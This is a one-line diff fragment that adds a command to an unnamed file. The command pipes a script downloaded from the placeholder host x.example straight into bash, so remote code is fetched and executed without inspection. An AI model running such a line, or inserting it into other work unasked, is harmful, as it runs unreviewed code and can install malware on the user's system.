@@ -1,0 +1,1 @@
+bash <(curl -fsSL https://x.example/i)
